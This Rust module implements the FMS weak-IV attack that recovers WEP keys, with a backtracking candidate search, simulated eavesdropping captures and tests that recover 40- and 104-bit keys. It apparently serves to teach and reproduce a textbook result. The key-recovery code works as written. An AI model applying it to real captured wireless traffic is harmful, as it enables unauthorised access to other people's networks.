//! The Fluhrer–Mantin–Shamir (FMS) weak-IV key-recovery attack on WEP.
//!
//! §5.2: "As early as 2001 proof-of-concept exploits were floating
//! around and by 2005 the FBI gave a public demonstration … where they
//! cracked WEP passwords in minutes using freely available software."
//! The 2001 exploit *is* this attack: because WEP seeds RC4 with
//! `IV ‖ secret` and the IV is public, IVs of the form
//! `(B+3, 255, X)` make the first keystream byte statistically leak
//! secret byte `B` (signal ≈ 5% against a 1/256 noise floor).
//!
//! The first plaintext byte of a WEP data frame is the SNAP/LLC
//! constant `0xAA`, so the first keystream byte is simply
//! `C[0] ⊕ 0xAA` for every captured frame.
//!
//! Recovery proceeds byte by byte with vote tallies; like the real
//! tools, a small backtracking search over the top-ranked candidates
//! (the "fudge factor") makes it robust when a byte's statistics are
//! noisy, with final verification by trial decryption.

use crate::wep::{decrypt, encrypt, IvCounter, WepFrame, WepKey};

/// A captured sample: the public IV and the first keystream byte
/// (derived from the known 0xAA SNAP byte).
#[derive(Clone, Copy, Debug)]
pub struct Sample {
    /// The cleartext IV.
    pub iv: [u8; 3],
    /// First keystream byte `= C[0] ⊕ 0xAA`.
    pub first_ks: u8,
}

impl Sample {
    /// Extracts a sample from a captured frame, assuming the SNAP
    /// header constant as first plaintext byte.
    pub fn from_frame(frame: &WepFrame) -> Option<Sample> {
        let c0 = *frame.ciphertext.first()?;
        Some(Sample {
            iv: frame.iv,
            first_ks: c0 ^ 0xAA,
        })
    }
}

/// Tallies FMS votes for secret byte `b` given the already-recovered
/// prefix, over all applicable samples.
fn votes_for_byte(samples: &[Sample], prefix: &[u8], b: usize) -> [u32; 256] {
    let a = (b + 3) as u8;
    let mut votes = [0u32; 256];
    for s in samples {
        if s.iv[0] != a || s.iv[1] != 255 {
            continue;
        }
        // Known key bytes: IV(3) + recovered prefix.
        let mut key = [0u8; 16];
        key[..3].copy_from_slice(&s.iv);
        key[3..3 + prefix.len()].copy_from_slice(prefix);
        let known = 3 + b;
        // Run the KSA for the first `known` steps.
        let mut state: [u8; 256] = core::array::from_fn(|i| i as u8);
        let mut j: u8 = 0;
        for i in 0..known {
            j = j
                .wrapping_add(state[i])
                .wrapping_add(key[i % (3 + prefix.len()).max(1)]);
            state.swap(i, j as usize);
        }
        // The "resolved" condition.
        let s1 = state[1] as usize;
        if s1 >= known || (s1 + state[s1] as usize) != known {
            continue;
        }
        // Invert the permutation at the observed keystream byte.
        let mut inv = [0u8; 256];
        for (i, &v) in state.iter().enumerate() {
            inv[v as usize] = i as u8;
        }
        let vote = inv[s.first_ks as usize]
            .wrapping_sub(j)
            .wrapping_sub(state[known]);
        votes[vote as usize] += 1;
    }
    votes
}

/// Public vote tally for one secret byte — exposed so experiments can
/// show the statistical signal (and its noise floor) directly.
pub fn vote_table(samples: &[Sample], prefix: &[u8], b: usize) -> [u32; 256] {
    votes_for_byte(samples, prefix, b)
}

/// Top `k` candidates by vote count (ties broken by value).
fn top_candidates(votes: &[u32; 256], k: usize) -> Vec<u8> {
    let mut idx: Vec<u8> = (0..=255).collect();
    idx.sort_by_key(|&v| std::cmp::Reverse(votes[v as usize]));
    idx.truncate(k);
    idx
}

/// Result of a key-recovery run.
#[derive(Clone, Debug)]
pub struct Recovery {
    /// The recovered secret, if verification succeeded.
    pub key: Option<Vec<u8>>,
    /// Search nodes explored (effort metric for EXPERIMENTS.md).
    pub nodes_explored: u64,
    /// Samples consumed.
    pub samples_used: usize,
}

/// Attempts to recover a WEP secret of `secret_len` bytes from
/// captured samples, verifying candidates against `reference` (a
/// captured frame with known plaintext — trial decryption must yield a
/// valid ICV).
pub fn recover_key(
    samples: &[Sample],
    secret_len: usize,
    reference: &WepFrame,
    fudge: usize,
    node_budget: u64,
) -> Recovery {
    use std::cmp::Ordering;
    use std::collections::BinaryHeap;

    // Best-first search over candidate prefixes, scored by the sum of
    // log-vote weights — the same idea as aircrack's key ranking: a
    // byte whose statistics are noisy gets explored at several
    // candidate values, ordered by global plausibility.
    struct Node {
        score: f64,
        prefix: Vec<u8>,
    }
    impl PartialEq for Node {
        fn eq(&self, other: &Self) -> bool {
            self.score == other.score
        }
    }
    impl Eq for Node {}
    impl PartialOrd for Node {
        fn partial_cmp(&self, other: &Self) -> Option<Ordering> {
            Some(self.cmp(other))
        }
    }
    impl Ord for Node {
        fn cmp(&self, other: &Self) -> Ordering {
            self.score
                .partial_cmp(&other.score)
                .unwrap_or(Ordering::Equal)
        }
    }

    let mut nodes = 0u64;
    let mut heap = BinaryHeap::new();
    heap.push(Node {
        score: 0.0,
        prefix: Vec::new(),
    });
    while let Some(Node { score, prefix }) = heap.pop() {
        if nodes >= node_budget {
            break;
        }
        nodes += 1;
        if prefix.len() == secret_len {
            if let Ok(key) = WepKey::new(&prefix) {
                if decrypt(&key, reference).is_ok() {
                    return Recovery {
                        key: Some(prefix),
                        nodes_explored: nodes,
                        samples_used: samples.len(),
                    };
                }
            }
            continue;
        }
        let votes = votes_for_byte(samples, &prefix, prefix.len());
        for &cand in &top_candidates(&votes, fudge) {
            let mut next = prefix.clone();
            next.push(cand);
            heap.push(Node {
                score: score + (votes[cand as usize] as f64 + 1.0).ln(),
                prefix: next,
            });
        }
    }
    Recovery {
        key: None,
        nodes_explored: nodes,
        samples_used: samples.len(),
    }
}

/// Simulates an eavesdropping capture: the victim network sends
/// SNAP-headed frames under sequential IVs (as real devices did); the
/// attacker keeps the weak-IV samples. Returns (samples, one reference
/// frame for verification, total frames observed).
pub fn capture_weak_ivs(key: &WepKey, frames_to_observe: u32) -> (Vec<Sample>, WepFrame, u32) {
    let mut ivs = IvCounter(0);
    let mut samples = Vec::new();
    let payload = b"\xAA\xAA\x03\x00\x00\x00\x08\x06 some arp body";
    let reference = encrypt(key, [200, 200, 200], payload);
    for _ in 0..frames_to_observe {
        let iv = ivs.next();
        // The attacker only stores weak-form IVs (A, 255, X).
        if iv[1] == 255 && (3..=(2 + key.secret().len() as u32) as u8 + 1).contains(&iv[0]) {
            let f = encrypt(key, iv, payload);
            samples.push(Sample::from_frame(&f).expect("non-empty"));
        }
    }
    (samples, reference, frames_to_observe)
}

/// Generates a *directed* weak-IV capture: every (A, 255, X) IV for
/// the key length — what an active attacker provokes with replayed
/// ARPs in minutes rather than waiting hours.
pub fn directed_capture(key: &WepKey) -> (Vec<Sample>, WepFrame) {
    let payload = b"\xAA\xAA\x03\x00\x00\x00\x08\x06 some arp body";
    let reference = encrypt(key, [200, 200, 200], payload);
    let mut samples = Vec::new();
    for b in 0..key.secret().len() {
        let a = (b + 3) as u8;
        for x in 0..=255u8 {
            let f = encrypt(key, [a, 255, x], payload);
            samples.push(Sample::from_frame(&f).expect("non-empty"));
        }
    }
    (samples, reference)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn recovers_a_40_bit_key() {
        let key = WepKey::new(b"\x01\x23\x45\x67\x89").unwrap();
        let (samples, reference) = directed_capture(&key);
        let r = recover_key(&samples, 5, &reference, 3, 10_000);
        assert_eq!(r.key.as_deref(), Some(&b"\x01\x23\x45\x67\x89"[..]));
    }

    #[test]
    fn recovers_an_ascii_40_bit_key() {
        let key = WepKey::new(b"Kfc3!").unwrap();
        let (samples, reference) = directed_capture(&key);
        let r = recover_key(&samples, 5, &reference, 3, 10_000);
        assert_eq!(r.key.as_deref(), Some(&b"Kfc3!"[..]));
    }

    #[test]
    fn recovers_a_104_bit_key() {
        // The text's "128-bit remains one of the most common" — the
        // attack scales linearly in key length, which is exactly why
        // longer WEP keys bought nothing.
        let key = WepKey::new(b"\x0f\x33\xA2\x7e\x51\x00\xff\x10\x20\x30\x9a\x62\x04").unwrap();
        let (samples, reference) = directed_capture(&key);
        let r = recover_key(&samples, 13, &reference, 4, 200_000);
        assert_eq!(r.key.as_deref(), Some(key.secret()));
    }

    #[test]
    fn fails_without_enough_samples() {
        let key = WepKey::new(b"\x01\x23\x45\x67\x89").unwrap();
        let (samples, reference) = directed_capture(&key);
        // Starve the attacker: keep only a handful of samples.
        let few = &samples[..8];
        let r = recover_key(few, 5, &reference, 2, 200);
        assert!(r.key.is_none());
    }

    #[test]
    fn passive_capture_collects_weak_ivs_over_time() {
        let key = WepKey::new(b"\x01\x23\x45\x67\x89").unwrap();
        // The IV counter is little-endian, so the weak form
        // (A, 255, X) appears once per 65 536 frames per X value —
        // this is why the passive attack needs millions of frames.
        let (samples, _, observed) = capture_weak_ivs(&key, 0x0009_0000);
        assert_eq!(observed, 0x0009_0000);
        // Every family has accumulated several samples already.
        for b in 0..5u8 {
            let n = samples.iter().filter(|s| s.iv[0] == b + 3).count();
            assert!((8..=10).contains(&n), "family {}: {n} samples", b + 3);
        }
        // Full coverage of a family takes a 2^24 wrap — the "minutes"
        // figure presumes *active* traffic generation (directed mode).
        assert!(samples.len() < 256, "passive capture is slow by design");
    }

    #[test]
    fn verification_rejects_wrong_keys() {
        let key = WepKey::new(b"\x01\x23\x45\x67\x89").unwrap();
        let (_, reference) = directed_capture(&key);
        let wrong = WepKey::new(b"\x01\x23\x45\x67\x88").unwrap();
        assert!(decrypt(&wrong, &reference).is_err());
        assert!(decrypt(&key, &reference).is_ok());
    }
}
